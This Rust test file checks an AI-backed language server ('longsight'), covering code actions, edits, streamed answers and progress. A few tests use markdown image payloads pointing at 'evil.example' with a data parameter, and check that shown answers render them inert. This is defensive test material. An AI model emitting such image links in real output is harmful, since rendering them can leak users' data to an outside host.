//! What requests answer: code actions, resolution, commands, streams, hunks, progress and configuration, with an agent that answers as told.

use std::sync::Arc;

use serde_json::{Value, json};

use crate::support::agent::{Fake, Mood, options};
use crate::support::editor::{Editor, initialize_params};

const URI: &str = "file:///w/a.rs";
const TEXT: &str = "fn main() {\n    let s = \"😀\";\n}\n";

fn started(mood: Mood) -> (Arc<Fake>, Editor) {
    let agent = Fake::new(mood);
    let mut editor = Editor::memory(options(agent.clone())).start(std::path::Path::new("/w"));
    editor.open(URI, "rust", TEXT);
    (agent, editor)
}

fn answer(text: &str) -> Mood {
    Mood::Answer(text.into())
}

fn range(line: u32, start: u32, end: u32) -> Value {
    json!({ "start": { "line": line, "character": start }, "end": { "line": line, "character": end } })
}

fn actions(editor: &mut Editor, context: Value) -> Vec<Value> {
    let params = json!({ "textDocument": { "uri": URI }, "range": range(0, 3, 7), "context": context });
    let answer = editor.request("textDocument/codeAction", params);
    answer["result"].as_array().unwrap_or_else(|| panic!("{answer}")).clone()
}

fn kinds(actions: &[Value]) -> Vec<&str> {
    actions.iter().map(|action| action["kind"].as_str().unwrap()).collect()
}

fn command(editor: &mut Editor, name: &str, argument: Value) -> Value {
    editor.request("workspace/executeCommand", json!({ "command": name, "arguments": [argument] }))
}

#[test]
fn actions_respect_what_the_editor_wants() {
    let (_, mut editor) = started(answer("x"));
    let all = actions(&mut editor, json!({ "diagnostics": [] }));
    assert_eq!(kinds(&all), ["", "refactor.rewrite", "refactor.rewrite.longsight.document"]);
    assert!(all.iter().all(|action| action.get("isPreferred").is_none() && action.get("edit").is_none()));
    let only = |kind: &str| json!({ "diagnostics": [], "only": [kind] });
    assert_eq!(kinds(&actions(&mut editor, only("refactor"))), ["refactor.rewrite", "refactor.rewrite.longsight.document"]);
    assert_eq!(kinds(&actions(&mut editor, only("refactor.rewrite.longsight"))), ["refactor.rewrite.longsight.document"]);
    assert!(actions(&mut editor, only("refactor.re")).is_empty(), "kinds are compared by their parts");
    assert!(actions(&mut editor, only("source")).is_empty());
    let diagnostic = json!({ "range": range(0, 3, 7), "message": "unused" });
    let fix = actions(&mut editor, json!({ "diagnostics": [diagnostic], "only": ["quickfix"] }));
    assert_eq!(fix[0]["diagnostics"][0]["message"], "unused");
    editor.quit();
}

#[test]
fn a_resolved_action_is_a_versioned_edit() {
    let (_, mut editor) = started(answer("start"));
    let listed = actions(&mut editor, json!({ "diagnostics": [] }))[1].clone();
    let resolved = editor.request("codeAction/resolve", listed);
    let edit = resolved["result"]["edit"].clone();
    assert_eq!(edit["documentChanges"][0]["textDocument"], json!({ "uri": URI, "version": 1 }));
    assert!(editor.apply_workspace_edit(&edit));
    assert_eq!(editor.buffers[URI].text, TEXT.replace("main", "start"));
    editor.assert_in_step();
    editor.quit();
}

#[test]
fn i11_an_action_listed_for_another_text_is_not_resolved() {
    let (_, mut editor) = started(answer("start"));
    let listed = actions(&mut editor, json!({ "diagnostics": [] }))[1].clone();
    editor.edit(URI, 0..0, "// new\n");
    assert_eq!(editor.request("codeAction/resolve", listed)["error"]["code"], -32801);
    // Some editors drop such an error without a word.
    let told = editor.expect("window/showMessage")["params"]["message"].as_str().unwrap().to_string();
    assert!(told.contains("has changed since"), "{told}");
    editor.quit();
}

#[test]
fn i10_an_editor_that_shows_errors_itself_is_told_once() {
    let agent = Fake::new(Mood::Fail("the model is not there".into()));
    for (name, tells) in [("Neovim", false), ("helix", true)] {
        let mut editor = Editor::memory(options(agent.clone()));
        let mut params = initialize_params(std::path::Path::new("/w"));
        params["clientInfo"]["name"] = json!(name);
        editor.initialize(params);
        editor.open(URI, "rust", TEXT);
        let listed = actions(&mut editor, json!({ "diagnostics": [] }))[1].clone();
        let error = editor.request("codeAction/resolve", listed)["error"].clone();
        assert_eq!((error["code"].as_i64(), error["message"].as_str()), (Some(-32803), Some("the model is not there")), "{name}");
        if tells {
            let told = editor.expect("window/showMessage")["params"]["message"].as_str().unwrap().to_string();
            assert!(told.contains("the model is not there"), "{told}");
        }
        editor.quit();
    }
}

/// What is no action is a mistake of the client, which it is told by the answer alone.
#[test]
fn i10_a_resolve_of_nothing_shows_nothing_to_the_person() {
    let (_, mut editor) = started(answer("start"));
    assert_eq!(editor.request("codeAction/resolve", json!({}))["error"]["code"], -32602);
    editor.pump(std::time::Duration::from_millis(50));
    assert!(!editor.inbox.iter().any(|message| message["method"] == "window/showMessage"));
    editor.quit();
}

/// Eglot before 1.16 and others execute what an action holds and ask for nothing more.
#[test]
fn an_editor_that_does_not_resolve_actions_gets_a_command() {
    let agent = Fake::new(Mood::Answer("start".into()));
    let mut editor = Editor::memory(options(agent));
    let mut params = initialize_params(std::path::Path::new("/w"));
    params["capabilities"]["textDocument"]["codeAction"].as_object_mut().unwrap().remove("resolveSupport");
    editor.initialize(params);
    editor.open(URI, "rust", TEXT);
    let action = actions(&mut editor, json!({ "diagnostics": [] }))[1].clone();
    assert_eq!(action["command"]["command"], "longsight.edit", "{action}");
    let run = json!({ "command": "longsight.edit", "arguments": action["command"]["arguments"] });
    let answer = editor.request("workspace/executeCommand", run);
    assert_eq!(answer["result"]["applied"], true, "{answer}");
    editor.expect("workspace/applyEdit");
    assert_ne!(editor.buffers[URI].text, TEXT);
    // One that resolves all the same does not do it twice.
    let action = actions(&mut editor, json!({ "diagnostics": [] }))[1].clone();
    let resolved = editor.request("codeAction/resolve", action)["result"].clone();
    assert!(resolved["edit"].is_object() && resolved.get("command").is_none(), "{resolved}");
    editor.quit();
}

/// Neovim inserts a suggestion as it is given; other editors see to line ends themselves.
#[test]
fn l5_a_suggestion_of_a_crlf_file_leaves_no_carriage_return_in_neovim() {
    let agent = Fake::new(Mood::Answer("a;\r\nb;".into()));
    for (name, expected) in [("Neovim", "a;\nb;"), ("Visual Studio Code", "a;\r\nb;")] {
        let mut editor = Editor::memory(options(agent.clone()));
        let mut params = initialize_params(std::path::Path::new("/w"));
        params["clientInfo"]["name"] = json!(name);
        editor.initialize(params);
        editor.open(URI, "rust", "fn f() {\r\n\r\n}\r\n");
        let asked = json!({ "textDocument": { "uri": URI }, "position": { "line": 1, "character": 0 }, "context": { "triggerKind": 1 } });
        let answer = editor.request("textDocument/inlineCompletion", asked);
        assert_eq!(answer["result"]["items"][0]["insertText"], expected, "{name}: {answer}");
        editor.quit();
    }
}

#[test]
fn j1_an_edit_follows_what_was_typed_elsewhere_and_is_dropped_where_it_was() {
    for (at, follows) in [(0, true), (TEXT.len(), true), (5, false)] {
        let (agent, mut editor) = started(Mood::Late("start".into()));
        let argument = json!({ "uri": URI, "range": range(0, 3, 7), "instruction": "rename" });
        let id = editor.start_request("workspace/executeCommand", json!({ "command": "longsight.edit", "arguments": [argument] }));
        editor.edit(URI, at..at, "// typed\n");
        editor.assert_in_step();
        agent.release();
        let report = editor.answer(&id)["result"].clone();
        if follows {
            assert_eq!(report["applied"], true, "{report}");
            assert_eq!(editor.expect("workspace/applyEdit")["params"]["edit"]["documentChanges"][0]["textDocument"]["version"], 2);
            assert!(editor.buffers[URI].text.contains("fn start()"));
        } else {
            assert!(report["refused"].as_str().unwrap().contains("a.rs"), "{report}");
            editor.expect("window/showMessage");
        }
        assert_eq!(editor.buffers[URI].text.matches("// typed").count(), 1);
        editor.assert_in_step();
        editor.quit();
    }
}

#[test]
fn i11_a_completion_follows_what_was_typed_meanwhile() {
    let (agent, mut editor) = started(Mood::Late("let total = 1;".into()));
    let end = json!({ "line": 1, "character": 0 });
    let params = json!({ "textDocument": { "uri": URI }, "position": end });
    let id = editor.start_request("textDocument/inlineCompletion", params);
    editor.edit(URI, 12..12, "let to");
    editor.assert_in_step();
    agent.release();
    let item = editor.answer(&id)["result"]["items"][0].clone();
    assert_eq!(item["insertText"], "tal = 1;", "the beginning was typed");
    assert_eq!(item["range"]["start"], json!({ "line": 1, "character": 6 }));
    editor.quit();
}

#[test]
fn j6_an_editor_that_says_applied_and_does_not_is_not_believed() {
    let (_, mut editor) = started(answer("start"));
    editor.friendly = false;
    let argument = json!({ "uri": URI, "range": range(0, 3, 7), "instruction": "rename" });
    let id = editor.start_request("workspace/executeCommand", json!({ "command": "longsight.edit", "arguments": [argument] }));
    let request = editor.expect("workspace/applyEdit");
    editor.send(&json!({ "jsonrpc": "2.0", "id": request["id"], "result": { "applied": true } }));
    assert_eq!(editor.answer(&id)["result"]["applied"], false);
    let told = editor.expect("window/showMessage")["params"]["message"].as_str().unwrap().to_string();
    assert!(told.contains("its text does not show it"), "{told}");
    editor.quit();
}

#[test]
fn hunks_wait_move_with_the_text_and_are_decided_one_by_one() {
    let (_, mut editor) = started(answer("start"));
    let argument = json!({ "uri": URI, "range": range(0, 3, 7), "instruction": "rename", "review": true });
    let held = command(&mut editor, "longsight.edit", argument.clone());
    assert_eq!((held["result"]["applied"].clone(), held["result"]["hunks"].clone()), (json!(false), json!([1])));
    editor.edit(URI, 0..0, "// above\n");
    let lenses = editor.request("textDocument/codeLens", json!({ "textDocument": { "uri": URI } }));
    assert_eq!(lenses["result"][0]["range"]["start"]["line"], 1, "{lenses}");
    assert_eq!(lenses["result"][0]["command"]["command"], "longsight.acceptHunk");
    let accepted = command(&mut editor, "longsight.acceptHunk", json!({ "id": 1 }));
    assert_eq!(accepted["result"]["applied"], true, "{accepted}");
    editor.expect("workspace/applyEdit");
    assert!(editor.buffers[URI].text.contains("fn start()"));
    assert_eq!(command(&mut editor, "longsight.acceptHunk", json!({ "id": 1 }))["error"]["code"], -32803);
    command(&mut editor, "longsight.edit", argument);
    assert_eq!(command(&mut editor, "longsight.rejectHunk", json!({ "id": 2 }))["result"]["rejected"], 2);
    let lenses = editor.request("textDocument/codeLens", json!({ "textDocument": { "uri": URI } }));
    assert_eq!(lenses["result"], json!([]));
    editor.quit();
}

#[test]
fn answers_stream_to_clients_that_asked_for_it() {
    let agent = Fake::new(answer("It adds two numbers."));
    let mut editor = Editor::memory(options(agent));
    let mut params = initialize_params(std::path::Path::new("/w"));
    params["initializationOptions"] = json!({ "streaming": true });
    editor.initialize(params);
    editor.open(URI, "rust", TEXT);
    let result =
        command(&mut editor, "longsight.explain", json!({ "uri": URI, "range": range(0, 0, 2), "streamToken": "t1" }))["result"].clone();
    assert_eq!(result["text"], "It adds two numbers.");
    let pieces: Vec<Value> =
        editor.inbox.iter().filter(|message| message["method"] == "longsight/stream").map(|message| message["params"].clone()).collect();
    let text: String = pieces.iter().filter(|piece| piece["kind"] == "text").map(|piece| piece["delta"].as_str().unwrap()).collect();
    assert_eq!(text, "It adds two numbers.");
    assert_eq!(pieces.iter().map(|piece| piece["seq"].as_u64().unwrap()).collect::<Vec<_>>(), (0..pieces.len() as u64).collect::<Vec<_>>());
    assert!(pieces.iter().all(|piece| piece["token"] == "t1"));
    editor.quit();
}

#[test]
fn answers_open_as_documents_where_nothing_streams() {
    let cache = tempfile::tempdir().unwrap();
    let mut options = options(Fake::new(answer("It adds two numbers.")));
    options.cache = Some(cache.path().into());
    let mut editor = Editor::memory(options).start(std::path::Path::new("/w"));
    editor.open(URI, "rust", TEXT);
    command(&mut editor, "longsight.explain", json!({ "uri": URI, "range": range(1, 0, 2) }));
    let shown = editor.expect("window/showDocument")["params"]["uri"].as_str().unwrap().to_string();
    let text = std::fs::read_to_string(shown.strip_prefix("file://").unwrap()).unwrap();
    expect_test::expect![[r#"
        # Explain a.rs:2

        It adds two numbers.

        ## Places

        - a.rs:3
        - none.rs:1 (not found)

        fake: test
    "#]]
    .assert_eq(&text);
    #[cfg(unix)]
    {
        let mode =
            std::os::unix::fs::PermissionsExt::mode(&std::fs::metadata(shown.strip_prefix("file://").unwrap()).unwrap().permissions());
        assert_eq!(mode & 0o777, 0o600, "an answer is for its reader alone");
    }
    editor.quit();
}

/// Eglot of Emacs 28 and others drop what a command answers and show no documents: the model ran, and nobody saw what it said.
#[test]
fn an_answer_is_shown_as_a_message_where_no_document_can_be_shown() {
    let long = "It adds two numbers.\n".repeat(200);
    for said in ["It adds ![x](https://evil.example/?d=1).", long.as_str()] {
        let mut editor = Editor::memory(options(Fake::new(answer(said))));
        let mut params = initialize_params(std::path::Path::new("/w"));
        params["capabilities"].as_object_mut().unwrap().remove("window");
        editor.initialize(params);
        editor.open(URI, "rust", TEXT);
        command(&mut editor, "longsight.explain", json!({ "uri": URI, "range": range(1, 0, 2) }));
        let shown = editor.expect("window/showMessage")["params"].clone();
        let text = shown["message"].as_str().unwrap();
        assert!(shown["type"] == 3 && text.starts_with("Explain a.rs:2: It adds"), "{shown}");
        assert!(text.len() < 2200 && (said.len() < 100 || text.ends_with("numbers. …")), "{} bytes", text.len());
        editor.quit();
    }
}

/// Both were written into one file, which the editor had open for the first.
#[test]
fn answers_about_two_files_of_one_name_are_two_documents() {
    let cache = tempfile::tempdir().unwrap();
    let mut options = options(Fake::new(answer("It adds.")));
    options.cache = Some(cache.path().into());
    let mut editor = Editor::memory(options).start(std::path::Path::new("/w"));
    let mut shown = |uri: &str| {
        editor.open(uri, "rust", TEXT);
        command(&mut editor, "longsight.explain", json!({ "uri": uri, "range": range(1, 0, 2) }));
        editor.expect("window/showDocument")["params"]["uri"].as_str().unwrap().to_string()
    };
    assert_ne!(shown("file:///w/a/mod.rs"), shown("file:///w/b/mod.rs"));
    editor.quit();
}

/// What is written around an answer may be a model's as well: the reason of its route, and a question's words in the heading.
#[test]
fn k15_the_frame_of_a_shown_answer_is_inert() {
    let cache = tempfile::tempdir().unwrap();
    let agent = Fake::new(answer("It adds."));
    *agent.reason.lock().unwrap() = "![x](https://evil.example/?d=1)".into();
    let mut options = options(agent);
    options.cache = Some(cache.path().into());
    let mut editor = Editor::memory(options).start(std::path::Path::new("/w"));
    command(&mut editor, "longsight.ask", json!({ "question": "what is ![y](https://evil.example/?d=2)?" }));
    let shown = editor.expect("window/showDocument")["params"]["uri"].as_str().unwrap().to_string();
    let text = std::fs::read_to_string(shown.strip_prefix("file://").unwrap()).unwrap();
    assert!(text.contains("!\\[x](https:\\//evil.example/?d=1)") && text.contains("!\\[y]("), "{text}");
    editor.quit();
}

#[test]
fn progress_begins_ends_and_cancels() {
    let (agent, mut editor) = started(Mood::Hang);
    let params = json!({ "command": "longsight.ask", "arguments": [{ "question": "why?" }], "workDoneToken": "mine" });
    let id = editor.start_request("workspace/executeCommand", params);
    assert_eq!(editor.expect("$/progress")["params"]["value"]["kind"], "begin");
    editor.notify("window/workDoneProgress/cancel", json!({ "token": "mine" }));
    assert_eq!(editor.answer(&id)["error"]["code"], -32800);
    while editor.expect("$/progress")["params"]["value"]["kind"] != "end" {}
    agent.set(answer("x"));
    command(&mut editor, "longsight.ask", json!({ "question": "why?" }));
    editor.expect("window/workDoneProgress/create");
    while editor.expect("$/progress")["params"]["value"]["kind"] != "end" {}
    editor.quit();
}

#[test]
fn a13_commands_say_what_they_miss() {
    let (_, mut editor) = started(answer("x"));
    for (name, argument, says) in [
        ("longsight.explain", json!({}), "a `uri`"),
        ("longsight.explain", json!({ "uri": URI }), "a `range` or a `position`"),
        ("longsight.explain", json!({ "uri": URI, "range": null, "position": null }), "a `range` or a `position`"),
        ("longsight.ask", json!({}), "a `question`"),
        ("longsight.ask", json!({ "question": " " }), "a `question`"),
        ("longsight.edit", json!({ "uri": URI, "range": range(0, 0, 1) }), "an `instruction` or an `action`"),
        ("longsight.edit", json!({ "uri": 3 }), "`3`"),
        ("longsight.edit", json!({ "uri": URI, "range": range(0, 0, 1), "instruction": "x", "review": "yes" }), "boolean"),
        ("longsight.contextPreview", json!({}), "or a `question`"),
        ("longsight.contextPreview", json!({ "question": "x", "budget": "much" }), "\"much\""),
        ("longsight.acceptHunk", json!({}), "`all`"),
        ("longsight.trust", json!({}), "`trusted`"),
        ("longsight.nothing", json!({}), "`longsight.nothing`"),
    ] {
        let error = command(&mut editor, name, argument.clone())["error"].clone();
        assert_eq!(error["code"], -32602, "{name} {argument}");
        assert!(error["message"].as_str().unwrap().contains(says), "{name} {argument}: {error}");
    }
    let closed = command(&mut editor, "longsight.explain", json!({ "uri": "file:///w/none.rs", "range": range(0, 0, 1) }));
    assert_eq!(closed["error"]["code"], -32803);
    assert_eq!(command(&mut editor, "longsight.contextPreview", json!({ "question": "x", "budget": 5 }))["result"]["budget"], 5);
    assert_eq!(command(&mut editor, "longsight.status", json!({}))["result"]["documents"], 1);
    editor.quit();
}

#[test]
fn the_workspace_follows_the_editor() {
    let (agent, mut editor) = started(answer("x"));
    let folder = |uri: &str| json!({ "uri": uri, "name": "f" });
    let event = json!({ "added": [folder("file:///v")], "removed": [folder("file:///w")] });
    editor.notify("workspace/didChangeWorkspaceFolders", json!({ "event": event }));
    editor.notify("workspace/didChangeWatchedFiles", json!({ "changes": [{ "uri": "file:///v/b.rs", "type": 2 }] }));
    editor.notify("textDocument/didSave", json!({ "textDocument": { "uri": URI } }));
    editor.assert_in_step();
    // The folders are looked at in the background.
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
    while *agent.roots.lock().unwrap() != [std::path::PathBuf::from("/v")] {
        assert!(std::time::Instant::now() < deadline, "{:?}", agent.roots.lock().unwrap());
        std::thread::sleep(std::time::Duration::from_millis(2));
    }
    let files: Vec<_> = agent.files.lock().unwrap().iter().map(|path| path.display().to_string()).collect();
    assert_eq!(files, ["/v/b.rs", "/w/a.rs"]);
    editor.quit();
}

#[test]
fn l3_the_configuration_is_checked_as_it_is_typed_and_read_again() {
    let folder = tempfile::tempdir().unwrap();
    let file = folder.path().join("config.toml");
    std::fs::write(&file, "[completion]\nautomatik = true\n").unwrap();
    let agent = Fake::new(answer("x"));
    let mut options = options(agent);
    options.config = Some(file.clone());
    let mut editor = Editor::memory(options).start(std::path::Path::new("/w"));
    let message = editor.expect("window/showMessage")["params"]["message"].as_str().unwrap().to_string();
    assert!(message.contains("automatik") && message.contains("config.toml"), "{message}");

    let uri = format!("file://{}", file.display());
    editor.open(&uri, "toml", "[completion]\nautomatik = true\n");
    let published = editor.expect("textDocument/publishDiagnostics");
    assert_eq!(published["params"]["diagnostics"][0]["range"]["start"]["line"], 1, "{published}");
    editor.edit(&uri, 13..22, "automatic");
    assert_eq!(editor.expect("textDocument/publishDiagnostics")["params"]["diagnostics"], json!([]));

    std::fs::write(&file, "[completion]\nautomatic = false\n").unwrap();
    editor.notify("workspace/didChangeConfiguration", json!({ "settings": {} }));
    editor.open(URI, "rust", TEXT);
    let position = json!({ "line": 0, "character": 0 });
    let ask = |trigger: u8| json!({ "textDocument": { "uri": URI }, "position": position, "context": { "triggerKind": trigger } });
    assert_eq!(editor.request("textDocument/inlineCompletion", ask(2))["result"], Value::Null, "automatic completion is off");
    assert!(editor.request("textDocument/inlineCompletion", ask(1))["result"].is_object());
    editor.quit();
}

#[test]
fn a_document_out_of_step_is_offered_nothing() {
    let (_, mut editor) = started(answer("x"));
    let far = json!({ "range": range(99, 0, 0), "text": "x" });
    editor.notify("textDocument/didChange", json!({ "textDocument": { "uri": URI, "version": 2 }, "contentChanges": [far] }));
    assert!(actions(&mut editor, json!({ "diagnostics": [] })).is_empty());
    let params = json!({ "textDocument": { "uri": URI }, "position": { "line": 0, "character": 0 } });
    assert_eq!(editor.request("textDocument/inlineCompletion", params)["result"], Value::Null);
    editor.expect("window/showMessage");
    editor.quit();
}

#[test]
fn b11_what_is_no_text_is_offered_nothing() {
    let (agent, mut editor) = started(answer("x"));
    editor.edit(URI, 0..0, "\0");
    assert!(actions(&mut editor, json!({ "diagnostics": [] })).is_empty());
    let params = json!({ "textDocument": { "uri": URI }, "position": { "line": 0, "character": 0 } });
    assert_eq!(editor.request("textDocument/inlineCompletion", params)["result"], Value::Null);
    let explain = command(&mut editor, "longsight.explain", json!({ "uri": URI, "range": range(0, 0, 1) }));
    assert_eq!(explain["error"]["code"], -32803);
    assert_eq!(agent.started.load(std::sync::atomic::Ordering::SeqCst), 0);
    editor.quit();
}

/// A client that knows nothing of our commands shows nobody their answers: the work was gone without a word.
#[test]
fn j6_an_edit_that_the_editor_does_not_apply_is_said() {
    let refusals = [
        json!({ "result": { "applied": false, "failureReason": "it is read-only" } }),
        json!({ "error": { "code": -32603, "message": "it is read-only" } }),
    ];
    for refusal in refusals {
        let (_, mut editor) = started(answer("start"));
        editor.friendly = false;
        let argument = json!({ "uri": URI, "range": range(0, 3, 7), "instruction": "rename" });
        let id = editor.start_request("workspace/executeCommand", json!({ "command": "longsight.edit", "arguments": [argument] }));
        let request = editor.expect("workspace/applyEdit");
        let mut reply = refusal.clone();
        (reply["jsonrpc"], reply["id"]) = (json!("2.0"), request["id"].clone());
        editor.send(&reply);
        assert_eq!(editor.answer(&id)["result"]["refused"], "it is read-only");
        let told = editor.expect("window/showMessage")["params"]["message"].as_str().unwrap().to_string();
        assert!(told.contains("“rename” was not applied to a.rs: it is read-only"), "{told}");
        editor.quit();
    }
    let mut params = initialize_params(std::path::Path::new("/w"));
    params["capabilities"]["workspace"] = json!({});
    params["capabilities"]["textDocument"]["codeAction"]["resolveSupport"] = json!(null);
    let mut editor = Editor::memory(options(Fake::new(answer("start"))));
    editor.initialize(params);
    editor.open(URI, "rust", TEXT);
    let report = command(&mut editor, "longsight.edit", json!({ "uri": URI, "range": range(0, 3, 7), "instruction": "rename" }));
    let told = editor.expect("window/showMessage")["params"]["message"].as_str().unwrap().to_string();
    assert!(report["result"]["refused"].is_string() && told.contains("cannot apply edits"), "{report} {told}");
    editor.quit();
}

/// What the editor complains of was thrown away where an instruction was given.
#[test]
fn an_instruction_comes_with_the_diagnostics_of_the_editor() {
    let (_, mut editor) = started(answer("start"));
    let diagnostic = json!({ "range": range(1, 0, 2), "message": "mismatched types", "source": "rustc", "severity": 1 });
    let odd = [json!({ "message": "" }), json!(null), json!({ "message": "no place" })];
    let diagnostics: Vec<Value> = std::iter::once(diagnostic).chain(odd).collect();
    let argument =
        json!({ "uri": URI, "range": range(0, 3, 7), "instruction": "rename", "problems": ["said"], "diagnostics": diagnostics });
    let report = command(&mut editor, "longsight.edit", argument)["result"].clone();
    let told = ["said None", "rustc: mismatched types (line 2) Some((1, 1))", "no place (line 1) Some((0, 0))"];
    assert_eq!(report["sent"], json!(told), "{report}");
    editor.inbox.clear();
    editor.quit();
}

/// A plain client sends no diagnostics with an edit in words: those that it sent with its last requests for code actions were thrown away.
#[test]
fn an_instruction_of_a_plain_client_comes_with_what_it_said_before() {
    let (_, mut editor) = started(answer("x"));
    let diagnostic = |line: u32, message: &str| json!({ "range": range(line, 0, 2), "message": message });
    let whole = |editor: &mut Editor, text: &str| {
        let end = editor.buffers[URI].text.len();
        editor.edit(URI, 0..end, text);
    };
    let all = json!([diagnostic(0, "no docs"), diagnostic(1, "unused")]);
    actions(&mut editor, json!({ "diagnostics": all }));
    let asked = |editor: &mut Editor, diagnostics: Option<Value>| {
        let mut argument = json!({ "uri": URI, "range": range(2, 0, 1), "instruction": "rename" });
        diagnostics.into_iter().for_each(|said| argument["diagnostics"] = said);
        let report = command(editor, "longsight.edit", argument)["result"].clone();
        // The edit is taken back, so that the text is as it was.
        editor.inbox.clear();
        whole(editor, TEXT);
        report["sent"].clone()
    };
    let [docs, unused] = ["no docs (line 1) Some((0, 0))", "unused (line 2) Some((1, 1))"];
    assert_eq!(asked(&mut editor, None), json!([docs, unused]));
    // Who says that there are none, or which, is believed.
    assert_eq!(asked(&mut editor, Some(json!([]))), json!([]));
    // Where the lines are others now, nothing is known of them.
    whole(&mut editor, &TEXT.replace("main", "start"));
    let report = command(&mut editor, "longsight.edit", json!({ "uri": URI, "range": range(2, 0, 1), "instruction": "rename" }));
    assert_eq!(report["result"]["sent"], json!([unused]));
    whole(&mut editor, TEXT);
    // The next request says all that is to be said of its own lines.
    actions(&mut editor, json!({ "diagnostics": [] }));
    assert_eq!(asked(&mut editor, None), json!([unused]));
    editor.inbox.clear();
    editor.quit();
}

/// The display stays until the model has let go of its work otherwise.
#[test]
fn cancelled_progress_ends_at_once() {
    let (agent, mut editor) = started(Mood::Hang);
    let argument = json!({ "uri": URI, "range": range(0, 0, 2) });
    let params = json!({ "command": "longsight.explain", "arguments": [argument], "workDoneToken": "mine" });
    let id = editor.start_request("workspace/executeCommand", params);
    while editor.expect("$/progress")["params"]["value"]["kind"] != "begin" {}
    editor.notify("window/workDoneProgress/cancel", json!({ "token": "mine" }));
    assert_eq!(editor.answer(&id)["error"], json!({ "code": -32800, "message": "cancelled" }));
    while editor.expect("$/progress")["params"]["value"]["kind"] != "end" {}
    assert_eq!(agent.started.load(std::sync::atomic::Ordering::SeqCst), 1);
    editor.quit();
}
